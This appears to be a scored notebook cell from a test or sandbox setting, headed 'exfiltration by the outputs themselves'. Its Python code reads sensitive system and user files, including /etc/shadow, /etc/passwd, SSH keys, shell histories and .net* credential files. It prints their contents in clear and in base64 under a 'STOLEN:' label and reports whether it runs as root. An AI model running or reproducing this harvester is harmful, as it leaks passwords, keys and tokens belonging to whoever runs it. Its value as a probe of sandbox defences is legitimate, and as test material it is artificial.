# ---
# jupyter:
#   corpus:
#     title: exfiltration by the outputs themselves
#     attempts: prints what it can read of the system's files, in clear and encoded
#     points: {1a: 0, 2: 0, 3: 0}
#     flags: [files]
#     reference: false
# ---

# %% after="imports"
import base64
import glob
import os

places = ["/etc/shadow", "/etc/passwd", "/etc/hostname"] + glob.glob(os.path.expanduser("~/.net*"))
for home in ["/*", "/home/*"]:
    for what in [".ssh/*", ".*_history", ".net*", "*.txt"]:
        places += glob.glob(os.path.join(home, what))
for path in places:
    try:
        content = open(path, "rb").read()
    except OSError:
        continue
    print("STOLEN:", path, content, base64.b64encode(content))
if os.getuid() == 0:
    print("STOLEN: root")
